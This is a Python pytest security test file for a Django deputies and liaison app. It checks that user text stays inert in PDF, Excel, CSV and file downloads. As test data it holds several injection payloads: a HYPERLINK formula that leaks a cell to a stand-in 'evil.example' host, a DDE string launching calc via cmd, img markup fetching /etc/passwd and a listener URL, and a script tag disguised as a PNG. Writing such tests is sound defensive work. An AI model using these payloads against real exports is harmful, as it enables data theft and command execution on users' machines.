"""Users' text is data everywhere: never markup in a PDF, never a formula in Excel, never a content type."""

import io
import os
import shutil
import subprocess
from datetime import date

import pytest
from django.core.files.base import ContentFile
from django.urls import reverse
from openpyxl import load_workbook

from common.spreadsheet_formats import defuse
from liaison import services as liaison
from liaison.models import ArchiveFile
from supervision import services as supervision
from tests.accounts.factories import UserFactory
from tests.deputies.factories import DeputyFactory
from tests.liaison.factories import ArchiveEntryFactory, StationFactory, StationMemberFactory
from tests.xlsx import table

pytestmark = pytest.mark.django_db
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'


def pdf_text(content: bytes) -> str:
    return subprocess.run(["pdftotext", "-", "-"], input=content, capture_output=True, check=True).stdout.decode()


@pytest.mark.skipif(
    shutil.which("pdftotext") is None and os.environ.get("CI") != "true",
    reason="needs poppler-utils (.ci/run installs it)",
)
def test_a_suggestion_title_is_text_in_the_annual_report_pdf(client, world, listener):
    """A deputy names a colleague as co-signer of a suggestion titled with reportlab markup: the
    colleague's annual report PDF must still render, fetch nothing, and show the title as typed."""
    address, hits = listener
    victim = world.deputy
    author = DeputyFactory(user=UserFactory(username="author"))
    title = f'<b>未闭合 <img src="{address}/x.png"/> <img src="/etc/passwd"/> <font color=red>'
    item = supervision.item_create(
        created_by=author.user, lead_deputy=author, title=title, content="内容", co_signers=[victim]
    )
    supervision.cosign_answer(request=item.cosign_requests.get(), by=world.deputy_user, agree=True)
    supervision.item_submit(item=item, by=author.user)
    client.force_login(world.deputy_user)
    response = client.get(reverse("deputies:annual_report", args=[victim.pk, date.today().year]), {"format": "pdf"})
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    assert hits == []
    text = pdf_text(response.content)
    compact = "".join(text.split())  # lines wrap inside the table's cell
    assert "<b>未闭合" in compact and '<imgsrc="/etc/passwd"/>' in compact


def test_a_citizens_formula_stays_text_in_the_registers_excel(client, staff_user):
    station = StationFactory()
    deputy = StationMemberFactory(station=station).deputy
    liaison.reception_log(
        logged_by=deputy, station=station, day=date.today(), content=FORMULA, opinions=[{"content": FORMULA}]
    )
    liaison.opinion_submit_online(station=station, content="@SUM(1+1)*cmd|' /C calc'!A0")
    client.force_login(staff_user)
    for slug in ("contacts", "opinions"):
        response = client.get(reverse("liaison:register", args=[station.pk, slug]), {"format": "xlsx"})
        sheet = load_workbook(io.BytesIO(response.content)).active
        cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and c.value[:1] in "=@"]
        assert cells, slug
        assert all(c.data_type == "s" for c in cells), [(c.coordinate, c.data_type) for c in cells]


def test_a_suggestion_title_stays_text_in_the_problem_and_work_lists(client, world):
    world.submitted(title=FORMULA)
    client.force_login(world.staff)
    for sheet in ("problems", "work"):
        book = load_workbook(io.BytesIO(client.get(reverse("supervision:item_export", args=[sheet])).content))
        rows = table(book.active)
        cells = [c for row in book.active.iter_rows() for c in row if c.value == FORMULA]
        assert cells and all(c.data_type == "s" for c in cells), sheet
        assert any(FORMULA in row for row in rows)


def test_the_roster_csv_defuses_formulas():
    assert defuse("=1+2") == "'=1+2" and defuse("+86 139") == "'+86 139" and defuse("张三") == "张三"
    assert defuse(5) == 5


def stored(station, name: str, content: bytes, caption: str) -> ArchiveFile:
    entry = ArchiveEntryFactory(station=station, section="featured", title="照片")
    archive_file = ArchiveFile(entry=entry, caption=caption)
    archive_file.file.save(name, ContentFile(content), save=True)
    return archive_file


def test_archive_files_are_served_as_what_they_are_not_as_their_caption_says(client, staff_user):
    station = StationFactory()
    gif = stored(station, "p.gif", GIF, caption="p.js")
    pdf = stored(station, "q.pdf", b"%PDF-1.4 x", caption="q.html")
    html_in_disguise = stored(station, "r.png", b"<script>alert(1)</script>", caption="r.png")
    assert (gif.content_type, pdf.content_type, html_in_disguise.content_type) == (
        "image/gif",
        "application/pdf",
        "application/octet-stream",
    )
    client.force_login(staff_user)
    image = client.get(reverse("liaison:archive_file", args=[gif.pk]))
    assert image["Content-Type"] == "image/gif" and image["X-Content-Type-Options"] == "nosniff"
    assert image["Content-Disposition"].startswith("inline") and "p.js.gif" in image["Content-Disposition"]
    assert "sandbox" in image["Content-Security-Policy"]
    document = client.get(reverse("liaison:archive_file", args=[pdf.pk]))
    assert document["Content-Type"] == "application/pdf" and document["Content-Disposition"].startswith("attachment")
    assert "q.html.pdf" in document["Content-Disposition"]
    disguised = client.get(reverse("liaison:archive_file", args=[html_in_disguise.pk]))
    assert disguised["Content-Type"] == "application/octet-stream"
    assert disguised["Content-Disposition"].startswith("attachment")
